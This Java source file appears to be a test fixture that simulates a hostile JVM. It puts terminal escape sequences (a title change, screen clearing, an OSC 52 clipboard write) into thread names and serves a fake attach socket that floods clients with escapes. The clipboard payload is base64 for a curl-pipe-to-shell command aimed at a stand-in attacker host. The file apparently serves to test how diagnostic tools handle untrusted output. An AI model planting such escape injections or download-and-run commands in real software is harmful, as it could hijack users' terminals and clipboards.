import java.lang.reflect.Method;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;

/**
 * A JVM whose owner writes terminal escape sequences into its thread names: a title change
 * (OSC 0), a clipboard write (OSC 52), a cleared screen with a fake line, a bell. The carriers
 * are renamed too (through Thread.currentCarrierThread, opened with
 * --add-opens java.base/java.lang=ALL-UNNAMED), and so is a platform thread; then virtual
 * threads sleep inside synchronized, so that there is something to record. The JVM also
 * serves its own attach socket (/tmp/.java_pid<pid>, 0600, its own process: it passes every
 * check of the attach protocol) and answers each command with a failure full of escapes and
 * 400 KB of them after it.
 * Arguments: carriers to rename (default 2).
 */
public final class HostileNames {
    static final String ESC = "\u001b";
    static final String BEL = "\u0007";
    static final String[] NAMES = {
        ESC + "]0;owned" + BEL + "title",
        ESC + "]52;c;Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94IHwgc2g=" + BEL + "clip",
        ESC + "[2J" + ESC + "[H" + "nothing to see" + BEL,
    };

    public static void main(String[] args) throws Exception {
        int carriers = args.length > 0 ? Integer.parseInt(args[0]) : 2;
        Thread platform = new Thread(HostileNames::sleepForever, NAMES[2]);
        platform.setDaemon(true);
        platform.start();
        Method carrierOf = Thread.class.getDeclaredMethod("currentCarrierThread");
        carrierOf.setAccessible(true);
        ExecutorService executor = Vt.executor();
        // Every carrier renamed: each virtual thread holds its carrier until all are renamed.
        CountDownLatch renamed = new CountDownLatch(carriers);
        for (int i = 0; i < carriers; i++) {
            String name = NAMES[i % 2] + "-" + i;
            executor.submit(() -> {
                ((Thread) carrierOf.invoke(null)).setName(name);
                renamed.countDown();
                while (renamed.getCount() > 0) Vt.spin(1_000_000);
                return null;
            });
        }
        renamed.await();
        for (int i = 0; i < carriers; i++) {
            Object lock = new Object();
            executor.submit(() -> {
                while (true) {
                    synchronized (lock) {
                        Thread.sleep(20);
                    }
                    Vt.spin(200_000);
                }
            });
        }
        Thread attach = new Thread(HostileNames::serveAttach, "attach");
        attach.setDaemon(true);
        attach.start();
        LISTENING.await();
        Vt.ready();
        sleepForever();
    }

    static final CountDownLatch LISTENING = new CountDownLatch(1);

    static void serveAttach() {
        Path socket = Path.of("/tmp/.java_pid" + ProcessHandle.current().pid());
        StringBuilder reply = new StringBuilder("1\n");
        for (String name : NAMES) reply.append(name).append('\n');
        for (int i = 0; i < 100_000; i++) reply.append(ESC + "[8m");
        byte[] bytes = reply.toString().getBytes(StandardCharsets.UTF_8);
        try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            Files.deleteIfExists(socket);
            server.bind(UnixDomainSocketAddress.of(socket));
            Files.setPosixFilePermissions(socket, PosixFilePermissions.fromString("rw-------"));
            LISTENING.countDown();
            while (true) {
                try (SocketChannel client = server.accept()) {
                    client.read(ByteBuffer.allocate(4096));
                    client.write(ByteBuffer.wrap(bytes));
                } catch (Exception e) {
                    // the next client
                }
            }
        } catch (Exception e) {
            e.printStackTrace();
        }
    }

    static void sleepForever() {
        while (true) {
            try {
                Thread.sleep(1000);
            } catch (InterruptedException e) {
                return;
            }
        }
    }
}
